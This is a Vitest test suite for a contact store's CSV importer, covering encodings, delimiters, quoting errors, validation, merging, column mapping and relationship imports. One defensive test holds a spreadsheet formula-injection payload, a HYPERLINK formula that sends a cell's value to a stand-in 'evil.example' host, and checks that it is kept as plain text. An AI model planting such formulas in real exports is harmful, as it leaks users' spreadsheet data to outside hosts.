import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runImport } from '../../../electron/backend/import/run-import.ts';
import { fixture, IMPORT_TIME, tempStore, type TempStore } from './temp-store.ts';

/** Every file of tests/fixtures/csv with what importing it must do. */
let t: TempStore;
beforeEach(async () => (t = await tempStore()));
afterEach(async () => t.close());

const importFile = (
  file: string,
  as: 'nodes' | 'relationships' | 'interactions' = 'nodes',
  extra = {},
) => runImport(t.store, { file: fixture(file), as, now: IMPORT_TIME, ...extra });

const PEOPLE = [
  'Stahlwerk Süd GmbH',
  'Jürgen Müller',
  'Anna Straßer',
  'Siobhán Ó Conchúir',
  'François Lefèvre',
];

describe('encodings and delimiters', () => {
  it.each([
    ['utf8-no-bom.csv', 'utf-8', ','],
    ['utf8-bom.csv', 'utf-8', ','],
    ['utf16le-bom.csv', 'utf-16le', ','],
    ['utf16be-bom.csv', 'utf-16be', ','],
    ['tab-delimited.tsv', 'utf-8', '\t'],
    ['pipe-delimited.csv', 'utf-8', '|'],
  ])('%s: detected as %s with %j, every name intact', async (file, encoding, delimiter) => {
    const summary = await importFile(file);
    expect(summary).toMatchObject({ encoding, delimiter, errors: [], created: 5, written: true });
    expect(summary.worksFor.created).toBe(3);
    const nodes = await t.store.getNodes([
      'org-stahlwerk',
      'p-mueller',
      'p-strasser',
      'p-oconnor',
      'p-francois',
    ]);
    expect(nodes.map((n) => n.name)).toEqual(PEOPLE);
  });

  it('reads Excel’s Windows-1252 with semicolons, decimal commas and German headers', async () => {
    const summary = await importFile('windows-1252-semicolon.csv');
    expect(summary).toMatchObject({
      encoding: 'windows-1252',
      delimiter: ';',
      created: 3,
      errors: [],
    });
    const [bakery, owner, buyer] = await t.store.getNodes([
      'org-baeckerei',
      'p-groessl',
      'p-oezdemir',
    ]);
    expect(bakery).toMatchObject({
      kind: 'Customer',
      name: 'Bäckerei Größl KG',
      customerValue: 1250000.5,
      keyAccount: true,
    });
    expect(owner).toMatchObject({
      name: 'Jörg Größl',
      properties: { 'Stärke des Kontakts': 'stark' },
    });
    expect(buyer?.title).toBe('Einkäuferin – Backwaren');
  });

  it('reads ISO-8859-15 (€, Œ, Š) when told; auto-detection assumes Windows-1252', async () => {
    await importFile('iso-8859-15.csv', 'nodes', { encoding: 'iso-8859-15' });
    expect(await t.store.getNode('p-sceaux')).toMatchObject({
      name: 'Œdipe Štastný',
      notes: 'Budget 5000 €',
    });
    const auto = await importFile('iso-8859-15.csv', 'nodes', { dryRun: true });
    expect(auto.encoding).toBe('windows-1252');
  });

  it('refuses bytes that do not decode, naming line and column, and writes nothing', async () => {
    const summary = await importFile('undecodable-1252.csv');
    expect(summary.written).toBe(false);
    expect(summary.errors).toEqual([
      { line: 4, column: 'name', message: expect.stringContaining('not valid windows-1252') },
    ]);
    expect((await t.store.counts()).nodes).toBe(0);
  });
});

describe('structure', () => {
  it('handles CRLF, LF and CR line ends, a line break inside quotes and trailing empty lines', async () => {
    const summary = await importFile('mixed-line-endings.csv');
    expect(summary).toMatchObject({ rows: 3, created: 3, errors: [] });
    expect(await t.store.getNode('p-a')).toMatchObject({
      name: 'Agnieszka Wiśniewska',
      notes: 'erste Zeile\nzweite Zeile',
    });
    expect((await t.store.getNode('p-c'))?.name).toBe('Zoë Dupont');
  });

  it('reports a quote inside an unquoted field with its line', async () => {
    const summary = await importFile('broken-quoting.csv');
    expect(summary.written).toBe(false);
    expect(summary.errors).toHaveLength(1);
    expect(summary.errors[0]?.message).toMatch(/^line 3: /);
  });

  it('reports a quote that is never closed at the line where it opens', async () => {
    const summary = await importFile('unclosed-quote.csv');
    expect(summary.errors).toEqual([
      { line: 3, column: '', message: expect.stringMatching(/^line 3: .*never closed/) },
    ]);
    expect((await t.store.counts()).nodes).toBe(0);
  });

  it('rejects a notes field above 20,000 characters by line and column, and keeps the other rows with --skip-invalid', async () => {
    const strict = await importFile('huge-field.csv');
    expect(strict.errors).toEqual([
      { line: 2, column: 'notes', message: expect.stringContaining('20,000') },
    ]);
    const lenient = await importFile('huge-field.csv', 'nodes', { skipInvalid: true });
    expect(lenient).toMatchObject({ created: 1, skipped: 1, written: true });
    expect(await t.store.getNode('p-long')).toBeUndefined();
  });
});

describe('values and validation', () => {
  it('names line, column and value of every bad cell', async () => {
    const summary = await importFile('bad-values.csv');
    expect(summary.written).toBe(false);
    expect(summary.errors.map((e) => [e.line, e.column])).toEqual([
      [3, 'consent_date'],
      [4, 'stance'],
      [4, 'email'],
      [5, 'tier'],
      [6, 'kind'],
    ]);
    expect(summary.errors[0]?.message).toContain('31.02.2024');
    expect(summary.errors[3]?.message).toContain('"D"');
  });

  it('stores formula payloads as plain text and undoes the export guard', async () => {
    await importFile('formula-payloads.csv');
    const [evil, quoted] = await t.store.getNodes(['p-evil', 'p-quoted']);
    expect(evil).toMatchObject({
      name: '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
      phone: '+49 89 1234567',
      tags: ['-2+3', '=1+1'],
    });
    expect(quoted).toMatchObject({ phone: '+49 30 998877', notes: '=already neutralised' });
  });

  it('merges rows with the same id or e-mail, later values winning', async () => {
    const summary = await importFile('duplicate-ids.csv');
    expect(summary).toMatchObject({ rows: 4, created: 2, merged: 2, errors: [] });
    expect(await t.store.getNode('p-weber')).toMatchObject({
      title: 'Leiter Einkauf',
      email: 'k.weber@hansa-logistik.de',
    });
    expect(await t.store.getNode('p-lindqvist')).toMatchObject({
      city: 'Bremerhaven',
      title: 'Logistikleiter',
    });
    expect((await t.store.counts()).nodes).toBe(2);
  });

  it('maps columns through a mapping file and keeps the unmapped ones', async () => {
    const summary = await importFile('mapped-columns.csv', 'nodes', {
      mapping: fixture('mapped-columns.mapping.json'),
    });
    expect(summary).toMatchObject({ created: 2, errors: [] });
    const node = await t.store.getNode('K-100');
    expect(node).toMatchObject({
      kind: 'Customer',
      name: 'Brauerei Sonnenberg',
      customerValue: 1250000.5,
      properties: { Kürzel: 'BS' },
    });
    expect(JSON.stringify(node)).not.toContain('nicht exportieren');
  });
});

describe('relationships and interactions', () => {
  beforeEach(async () => {
    await importFile('utf8-no-bom.csv');
  });

  it('imports German headers, labels, dates and decimal commas', async () => {
    const summary = await importFile('relationships-de.csv', 'relationships');
    expect(summary).toMatchObject({ created: 2, updated: 1, errors: [] });
    expect(await t.store.getRelationship('p-mueller|KNOWS|p-strasser')).toMatchObject({
      strength: 0.7,
      since: '2019-04-01',
      lastContact: '2024-03-12',
      notes: 'Kollegen; duzen sich',
      origin: 'relationships-de.csv',
    });
    expect(await t.store.getRelationship('p-francois|ADVISES|p-mueller')).toMatchObject({
      strength: 0.85,
      since: '2021-09-15',
      lastContact: '2024-03-03',
    });
  });

  it('names every id that exists neither in the store nor in the file', async () => {
    const summary = await importFile('dangling-relationships.csv', 'relationships');
    expect(summary.written).toBe(false);
    expect(summary.errors).toEqual([
      { line: 3, column: 'target', message: expect.stringContaining('"p-geist"') },
      { line: 4, column: 'source', message: expect.stringContaining('"p-phantom"') },
    ]);
  });

  it('logs interactions once, however often the file is imported', async () => {
    const first = await importFile('interactions.csv', 'interactions');
    expect(first).toMatchObject({ created: 2, errors: [] });
    const second = await importFile('interactions.csv', 'interactions');
    expect(second).toMatchObject({ created: 0, unchanged: 2 });
    const logged = await t.store.interactionsOf('p-mueller');
    expect(logged.map((i) => i.channel).sort()).toEqual(['call', 'meeting']);
    expect(logged.find((i) => i.channel === 'meeting')?.sentiment).toBe(0.5);
  });
});
